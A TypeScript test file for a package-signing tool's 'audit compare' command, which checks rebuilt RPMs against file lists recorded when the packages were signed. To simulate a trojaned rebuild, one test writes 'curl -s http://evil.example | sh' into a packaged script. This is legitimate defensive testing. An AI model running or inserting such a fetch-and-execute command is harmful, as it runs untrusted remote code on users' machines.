// Issue 13 acceptance 5 with real rpmbuild and a real cluster: nodes record the file list
// (path, digest, size, mode) of every RPM header they sign, and `qsign audit compare
// REBUILT.rpm` finds the signed package of the same NEVRA in the nodes' logs (fetched and
// verified) and names every file that differs: exactly the one changed file of a trojaned
// rebuild, nothing for an identical rebuild, and "no signed package" for an unknown NEVRA.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestCluster } from './helpers/cluster.js';
import { qsign } from './helpers/qsign-cli.js';
import { buildRpm, type SpecInput } from '../packages/rpm/src/__tests__/fixtures.js';

const spec = (tool = 'echo compare'): SpecInput => ({
  name: 'qs-compare',
  version: '1.4',
  release: '2',
  buildArch: 'noarch',
  install: [
    'mkdir -p $RPM_BUILD_ROOT/usr/bin $RPM_BUILD_ROOT/usr/share/qs-compare $RPM_BUILD_ROOT/etc',
    `printf '#!/bin/sh\\n${tool}\\n' > $RPM_BUILD_ROOT/usr/bin/qs-compare`,
    'chmod 755 $RPM_BUILD_ROOT/usr/bin/qs-compare',
    'echo data > $RPM_BUILD_ROOT/usr/share/qs-compare/data.txt',
    'echo conf > $RPM_BUILD_ROOT/etc/qs-compare.conf',
  ],
  files: ['/usr/bin/qs-compare', '/usr/share/qs-compare', '%config /etc/qs-compare.conf'],
});

describe('qsign audit compare: a rebuild against the signed package, by the file lists in the nodes\' audit records', () => {
  let c: TestCluster;
  let dir: string;
  const build = (name: string, s: SpecInput) => {
    const d = join(dir, name);
    mkdirSync(d);
    return buildRpm(d, s);
  };
  const compare = (rpm: string, ...more: string[]) => qsign(['audit', 'compare', rpm, '--cluster', c.dir, ...more]);

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'qsign-compare-'));
    c = await TestCluster.start({ nodes: 3, threshold: 2 });
    const signed = build('signed', spec());
    const r = await qsign(['rpm', 'sign', '--key', 'demo', signed, '-c', c.file.clientConfig]);
    expect(r.code, r.stderr).toBe(0);
  }, 600_000);
  afterAll(async () => {
    await c?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('an identical rebuild (built again elsewhere from the same spec) reports no difference, exit 0', async () => {
    const r = await compare(build('identical', spec()));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^qs-compare-1\.4-2\.noarch: 1 signed package with this NEVRA/);
    expect(r.stdout).toMatch(/recorded by nodes \d,\d/);
    expect(r.stdout).toMatch(/no difference: every file has the same digest, size and mode/);
  });

  it('a rebuild with one file changed names exactly that file, with the properties that differ, exit 1', async () => {
    const trojan = build('trojan', spec('curl -s http://evil.example | sh'));
    const r = await compare(trojan);
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.stdout).toMatch(/changed {2}\/usr\/bin\/qs-compare {2}\(digest [0-9a-f]{64} → [0-9a-f]{64}, size 23 → 43\)/);
    const j = await compare(trojan, '--json');
    expect(j.code).toBe(1);
    const report = JSON.parse(j.stdout);
    expect(report.builds).toHaveLength(1);
    expect(report.builds[0].differences.map((d: { path: string; kind: string; properties: string[] }) => [d.path, d.kind, d.properties])).toEqual([['/usr/bin/qs-compare', 'changed', ['digest', 'size']]]);
  });

  it('a file missing from, or added to, the rebuild is named as such', async () => {
    const s = spec();
    const added = { ...s, install: [...s.install, 'echo extra > $RPM_BUILD_ROOT/usr/share/qs-compare/extra.txt'] };
    const r = await compare(build('added', added), '--json');
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).builds[0].differences.map((d: { path: string; kind: string }) => `${d.kind} ${d.path}`)).toEqual(['added /usr/share/qs-compare/extra.txt']);
  });

  it('a package of a NEVRA the cluster never signed says so, exit 3', async () => {
    const r = await compare(build('unknown', { ...spec(), name: 'qs-never-signed' }));
    expect(r.code).toBe(3);
    expect(r.stdout).toMatch(/no node log records a signed package qs-never-signed-1\.4-2\.noarch/);
  });

  it('refuses a file that is not an RPM with a one-line error', async () => {
    const junk = join(dir, 'junk.rpm');
    writeFileSync(junk, 'not a package\n');
    const r = await compare(junk);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/junk\.rpm is not an RPM package this parser reads/);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });
});
